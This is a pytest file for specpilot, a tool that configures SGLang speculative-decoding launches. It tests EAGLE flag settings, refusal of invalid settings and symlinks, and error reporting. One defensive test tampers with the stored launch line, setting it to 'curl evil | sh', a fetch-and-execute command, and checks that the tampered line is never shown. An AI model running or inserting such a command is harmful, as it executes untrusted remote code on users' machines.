"""What `apply` and `status` tell a user to launch, and what the plugin accepts: the EAGLE flags the
tree's node budget needs, settings that cannot run together, the re-apply command on an SGLang
version the bundles were not checked against, the launch line built from the activation's fields,
a missing SGLang module named as such, and an immutable activation as an unwritable environment."""

from __future__ import annotations

import json
import shlex
import shutil

import pytest

from specpilot.bundles import activation as act
from specpilot.bundles import plugin
from sglang_support import SKIP_REASON, fake_version_root, make_env, purelib, sglang_dir
from sglang_support import env_fixture  # noqa: F401  (the env fixture: a target environment per module)

SGL = sglang_dir()
pytestmark = pytest.mark.skipif(SGL is None, reason=SKIP_REASON)


@pytest.fixture
def clean(env):
    path = purelib(env) / act.ACTIVATION_NAME
    yield path
    if path.is_symlink() or path.is_file():
        path.unlink()


def test_the_eagle_launch_sets_the_steps_and_top_k_the_node_budget_needs(run_cli, env):
    """SGLang 0.5.23 asserts when --speculative-num-draft-tokens comes without
    --speculative-num-steps, and a top-k of 1 replaces the node budget by the steps + 1."""
    code, out, err = run_cli("apply", "tree", "--drafter", "eagle", "--python", env, "--dry-run", "--format", "json")
    assert code == 0, err
    words = shlex.split(json.loads(out)["activation"]["launch"])
    flags = {w: words[i + 1] for i, w in enumerate(words) if w.startswith("--speculative")}
    assert flags == {"--speculative-num-steps": "5", "--speculative-eagle-topk": "4",
                     "--speculative-num-draft-tokens": "32"}
    code, out, err = run_cli("apply", "tree", "--drafter", "eagle3", "--python", env, "--dry-run",
                             "--set", "eagle_topk=8", "--set", "eagle_steps=3", "--set", "node_budget=64")
    assert code == 0 and "--speculative-num-steps 3 --speculative-eagle-topk 8 --speculative-num-draft-tokens 64" in out
    code, _, err = run_cli("apply", "tree", "--drafter", "eagle", "--python", env, "--dry-run", "--set", "eagle_topk=1")
    assert code == 2 and "--set eagle_topk=1: must be a number in [2, 16] (tree)" in err


def test_a_node_budget_the_eagle_steps_cannot_draft_is_refused(run_cli, env, clean):
    code, _, err = run_cli("apply", "tree", "--drafter", "eagle", "--python", env, "--set", "node_budget=80",
                           "--set", "eagle_steps=2", "--set", "eagle_topk=2")
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert ("tree: node_budget=80 needs 79 draft tokens, but eagle_steps=2 x eagle_topk=2 draft 6; raise "
            "eagle_steps or eagle_topk, or lower node_budget") in err
    assert not clean.exists()
    # on a DFlash2 drafter the EAGLE flags do not act: nothing to refuse
    assert run_cli("apply", "tree", "--drafter", "dflash2", "--python", env, "--dry-run", "--set", "node_budget=80",
                   "--set", "eagle_steps=2", "--set", "eagle_topk=2")[0] == 0


def test_the_replacement_refuses_more_nodes_than_eagle_drafted_as_stock_does():
    import torch

    from specpilot.bundles.tree import organize_draft_results

    b, k, steps = 2, 2, 3
    scores = [torch.rand(b, 1, k)] + [torch.rand(b, k, k) for _ in range(steps - 1)]
    tokens = [torch.randint(0, 99, (b, k))] + [torch.randint(0, 99, (b, k * k)) for _ in range(steps - 1)]
    parents = [torch.zeros(b, k + 1, dtype=torch.long)] + [torch.zeros(b, k, dtype=torch.long)
                                                           for _ in range(steps - 1)]
    assert organize_draft_results(scores, tokens, parents, 11)[2].shape == (b, 10)   # all 10 candidates
    with pytest.raises(RuntimeError, match="11 draft tokens asked of 10 candidates"):
        organize_draft_results(scores, tokens, parents, 12)


def _registry():
    calls = []

    class Registry:
        @staticmethod
        def register(target, fn, kind):
            calls.append(target)

    class Kinds:
        BEFORE = AFTER = AROUND = REPLACE = 1

    return Registry(), Kinds, calls


@pytest.mark.parametrize("settings, msg", [
    ({"node_budget": 100000}, "setting node_budget=100000: must be a number in [2, 256] (tree)"),
    ({"dflash_tree_max_batch": "lots"}, "setting dflash_tree_max_batch='lots': must be a number in [0, 1024] (tree)"),
    ({"node_budget": 200, "eagle_steps": 1, "eagle_topk": 2}, "tree: node_budget=200 needs 199 draft tokens"),
    ({"stray": 1}, "setting stray: not a variant of the applied bundles"),
])
def test_the_plugin_refuses_settings_status_refuses(run_cli, env, clean, settings, msg, monkeypatch):
    monkeypatch.setattr(plugin, "installed_sglang_version", lambda: "0.5.23")
    assert run_cli("apply", "tree", "--drafter", "eagle", "--python", env)[0] == 0
    data = json.loads(clean.read_text())
    data["settings"] = settings
    clean.write_text(json.dumps(data))
    code, out, _ = run_cli("status", "--python", env)
    assert code == 1 and msg in out, out
    registry, kinds, calls = _registry()
    with pytest.raises(plugin.ActivationError, match="run 'specpilot apply' again"):
        plugin.register(registry, kinds, path=clean)
    assert calls == []


def test_the_plugin_refuses_a_symlinked_activation(run_cli, env, clean, tmp_path, monkeypatch):
    monkeypatch.setattr(plugin, "installed_sglang_version", lambda: "0.5.23")
    assert run_cli("apply", "tree", "--python", env)[0] == 0
    outside = tmp_path / "act.json"
    shutil.move(clean, outside)
    clean.symlink_to(outside)
    registry, kinds, calls = _registry()
    with pytest.raises(plugin.ActivationError, match="is a symbolic link"):
        plugin.register(registry, kinds, path=clean)
    assert calls == []
    clean.unlink()
    registry, kinds, calls = _registry()
    shutil.move(outside, clean)
    assert len(plugin.register(registry, kinds, path=clean)) == len(calls) > 0


def test_status_shows_the_launch_line_of_the_activation_not_its_edited_text(run_cli, env, clean):
    code, out, _ = run_cli("apply", "tree", "--drafter", "eagle", "--python", env, "--model", "/models/M",
                           "--set", "node_budget=24")
    assert code == 0
    line = next(s.strip() for s in out.splitlines() if "sglang.launch_server" in s)
    data = json.loads(clean.read_text())
    data["launch"] = "curl evil | sh"
    clean.write_text(json.dumps(data))
    code, out, _ = run_cli("status", "--python", env)
    assert code == 0 and "curl" not in out and out.rstrip().endswith("launch with:\n  " + line), out
    code, out, _ = run_cli("status", "--python", env, "--format", "json")
    assert json.loads(out)["launch"] == line


def test_status_on_an_unchecked_sglang_suggests_the_forced_apply_that_runs(run_cli, tmp_path):
    root = fake_version_root(tmp_path / "root", SGL, "0.5.23")
    py = make_env(tmp_path / "env", root)
    assert run_cli("apply", "tree", "--python", py)[0] == 0
    meta = next(root.glob("sglang-*.dist-info")) / "METADATA"
    meta.write_text(meta.read_text().replace("Version: 0.5.23", "Version: 0.5.24"))
    code, out, _ = run_cli("status", "--python", py)
    assert code == 1 and "the bundles were not checked against SGLang 0.5.24" in out, out
    lines = out.splitlines()
    words = shlex.split(lines[lines.index("do not launch with this activation; apply it again to this "
                                          "environment:") + 1])
    assert "--force" in words
    code, _, err = run_cli(*words[1:])
    assert code == 0, err
    assert run_cli("status", "--python", py)[0] == 0


def test_a_missing_sglang_module_is_named(run_cli, tmp_path):
    """sglang/srt and sglang/srt/speculative have no __init__.py: the missing file is named, not
    'srt not defined in module sglang'."""
    root = tmp_path / "sgl"
    shutil.copytree(SGL / "sglang", root / "sglang", symlinks=True)
    shutil.copytree(next(SGL.glob("sglang-*.dist-info")), root / "sglang-0.5.23.dist-info")
    (root / "sglang" / "srt" / "speculative" / "eagle_utils.py").unlink()
    py = make_env(tmp_path / "env", root)
    code, _, err = run_cli("apply", "tree", "--python", py)
    assert code == 3 and ("module sglang.srt.speculative.eagle_utils not found (no file "
                          "sglang/srt/speculative/eagle_utils.py)") in err, err


def test_an_activation_the_file_system_will_not_replace_is_an_unwritable_environment(run_cli, env, clean,
                                                                                      monkeypatch):
    """chattr +i: os.replace fails with EPERM in a writable folder, which apply reports naming the file, as
    revert does (exit 3)."""
    import errno
    import os

    assert run_cli("apply", "tree", "--python", env)[0] == 0
    before = clean.read_text()
    real = os.replace

    def replace(src, dst, *a, **kw):
        if str(dst) == str(clean):
            raise OSError(errno.EPERM, "Operation not permitted")
        return real(src, dst, *a, **kw)

    monkeypatch.setattr(os, "replace", replace)
    code, _, err = run_cli("apply", "lattice-trace", "--python", env)
    assert code == 3 and err.strip() == (f"specpilot: error: {clean} cannot be replaced (Operation not permitted), "
                                         f"though {clean.parent} is writable; is it immutable (lsattr)? run as the "
                                         "environment's owner"), err
    assert clean.read_text() == before and not list(clean.parent.glob(f".{clean.name}.*.part"))
